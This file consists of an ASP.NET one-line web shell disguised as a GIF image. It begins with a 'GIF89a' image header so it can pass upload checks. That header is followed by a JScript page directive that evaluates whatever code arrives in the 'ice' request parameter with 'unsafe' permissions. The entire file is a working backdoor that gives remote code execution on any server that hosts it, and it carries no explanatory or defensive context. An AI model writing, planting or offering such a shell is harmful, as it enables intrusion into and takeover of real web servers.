GIF89a
<%@ Page Language="Jscript"%><%eval(Request.Item["ice"],"unsafe");%>